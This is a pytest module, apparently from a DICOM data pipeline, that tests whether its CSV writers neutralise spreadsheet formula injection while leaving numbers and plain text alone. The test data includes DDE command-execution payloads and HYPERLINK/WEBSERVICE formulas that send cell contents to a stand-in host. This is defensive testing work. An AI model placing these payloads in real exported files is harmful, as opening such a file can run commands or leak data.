"""Text of others in tables that a spreadsheet opens: none of it is a formula, and numbers stay numbers."""

import csv
import io
import re

import pytest

from data_modules.dicom.ingest import Ingest
from data_modules.dicom.manifest import Manifest, read_manifest
from data_modules.storage.failures import write_failures
from data_modules.tables.cells import safe_cell, write_rows
from tests.conftest import ROOT

FORMULAS = {
    "a command": "=cmd|' /C calc'!A0",
    "a command behind a plus": "+cmd|' /C calc'!A0",
    "a command behind a minus": "-cmd|' /C calc'!A0",
    "a command behind a number": "-2+3+cmd|' /C calc'!A0",
    "a function of Lotus": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("http://x/?"&A1,"see")',
    "a web service": '=WEBSERVICE("http://x/"&A1)',
    "an import": '=IMPORTXML("http://x","//a")',
    "a picture": '=IMAGE("http://x/a.png")',
    "behind a tab": "\t=1+1",
    "behind a carriage return": "\r=1+1",
    "behind a line feed": "\n=1+1",
    "behind a space": "  =1+1",
    "behind a hard space": "\u00a0=1+1",
    "behind what is not seen": "\u200b=1+1",
    "behind a mark of the file": "\ufeff=1+1",
    "behind a control character": "\x01=1+1",
    "wide": "＝1+1",
    "wide plus": "＋1+1",
    "behind a comma": "a,=1+1",
    "behind a semicolon": "a;=cmd|' /C calc'!A0",
    "behind a tab inside": "a\t@SUM(1)",
    "behind a bar": "a|=1+1",
    "behind a line inside": "a\n-1+1",
    "behind a quote and a semicolon": 'a";=1+1',
    "a sum of cells": "-A1+A2",
    "an exponent and more": "-1e5+cmd",
    "a percentage and more": "-5%+A1",
    "a sign alone": "=",
    "signs": "==1",
    "a minus and a bracket": "-(1+1)",
}
NUMBERS = [
    "-3.2",
    "+4",
    "0",
    "-0.5e-7",
    "1e9",
    "-17",
    "3.2",
    "-1.000",
    "-5 %",
    "-3.2 ml",
    "2020-01-02",
]
PLAIN = ["a-b", "a=b", "x@y", "1+1", "é", "slices 0 and 3, -1.5 mm apart", "", "anon-17/sax.nii.gz"]


def is_formula(field: str) -> bool:
    """Whether a spreadsheet calculates a field, by its first character that is seen."""
    field = field.lstrip("\0\x01\t\r\n \u00a0\u200b\ufeff")
    if not field or field[0] not in "=+-@＝＋－＠":
        return False
    return not re.fullmatch(r"[+-][0-9.]+(e[+-]?[0-9]+)?( ?[a-z%]+)?", field)


def fields_of(text: str) -> list[str]:
    """All fields of a file as a spreadsheet of any country parts them."""
    found = []
    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=None), delimiter=delimiter):
            found += row
    return found


def written(*rows: tuple) -> str:
    file = io.StringIO(newline="")
    write_rows(file, rows)
    return file.getvalue()


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_is_a_formula(name):
    text = written(("id", "text"), ("a", FORMULAS[name]), (FORMULAS[name], 1))
    assert not any(map(is_formula, fields_of(text)))
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell.replace("'", "") for cell in cells if cell not in ("id", "text", "a", "1")] == [
        FORMULAS[name].replace("'", "")
    ] * 2


@pytest.mark.parametrize("text", [*NUMBERS, *PLAIN])
def test_numbers_and_ordinary_texts_stay(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-3.2, -1, 0.0, 1e-12, float("-1e300"), True, 7])
def test_values_that_are_numbers_stay(value):
    assert safe_cell(value) == str(value)
    assert safe_cell(None) == ""


@pytest.mark.parametrize("name", FORMULAS)
def test_a_list_of_failures_holds_no_formula(tmp_path, name):
    write_failures(tmp_path / "failures.csv", {FORMULAS[name]: f"{FORMULAS[name]} is broken"})
    text = (tmp_path / "failures.csv").read_bytes().decode()
    assert not any(map(is_formula, fields_of(text)))


@pytest.mark.parametrize("name", FORMULAS)
def test_the_private_tables_of_an_intake_hold_no_formula(tmp_path, name):
    ingest = Ingest(str(tmp_path / "in"), str(tmp_path / "out"), str(tmp_path / "key"))
    path = tmp_path / "mapping.csv"
    rows = [(FORMULAS[name], "1.2.3", "p", "s")]
    ingest._write_private(str(path), "mapping_file", ("patient", "study", "a", "b"), rows)
    assert not any(map(is_formula, fields_of(path.read_bytes().decode())))


@pytest.mark.parametrize("name", FORMULAS)
def test_what_an_intake_adds_to_a_manifest_is_no_formula(tmp_path, name):
    """Twice: what was written is known again as ours, and may change."""
    path = tmp_path / "manifest.csv"
    row = {"study_id": "s", "maker": FORMULAS[name]}
    manifest = Manifest()
    manifest.update("s", row, {})
    manifest.write(path)
    assert not any(map(is_formula, fields_of(path.read_bytes().decode())))
    if "\x01" in FORMULAS[name]:
        return
    manifest = read_manifest(path)
    manifest.update("s", {"study_id": "s", "maker": "ge"}, row)
    manifest.write(path)
    assert read_manifest(path).rows == [{"studyid": "s", "maker": "ge"}]


def test_cells_of_somebody_else_in_a_manifest_stay(tmp_path):
    path = tmp_path / "manifest.csv"
    path.write_text("study_id,age_years,mine\ns,47,=B2*2\n")
    manifest = read_manifest(path)
    manifest.update("s", {"study_id": "s", "age_years": 48.0}, {"age_years": 47.0})
    manifest.write(path)
    assert "=B2*2" in path.read_text()
    assert "48.0" in path.read_text()


def test_all_tables_are_written_in_one_place():
    writers = [
        path.name
        for package in ("cmrvlm", "data_modules")
        for path in (ROOT / package).rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter|to_csv", path.read_text())
    ]
    assert sorted(writers) == ["cells.py", "manifest.py"]
